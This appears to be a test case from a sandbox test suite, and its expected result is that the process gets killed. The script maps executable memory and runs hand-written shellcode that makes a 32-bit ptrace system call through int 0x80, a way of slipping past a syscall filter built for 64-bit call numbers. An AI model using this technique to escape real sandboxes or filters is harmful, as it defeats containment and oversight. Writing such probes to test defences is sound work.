# Enters the kernel as a 32-bit program, whose calls have other numbers than the filter knows.
# status: error killed
# says: jumping
import mmap

if machine != "x86_64":
    print("jumping: no such door here", flush=True)
    sys.exit(1)
# mov eax, 26 (ptrace of i386); xor ebx, ebx; xor ecx, ecx; int 0x80; ret
code = b"\xb8\x1a\x00\x00\x00\x31\xdb\x31\xc9\xcd\x80\xc3"
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
print("jumping", flush=True)
print("REACHED:", function(), flush=True)
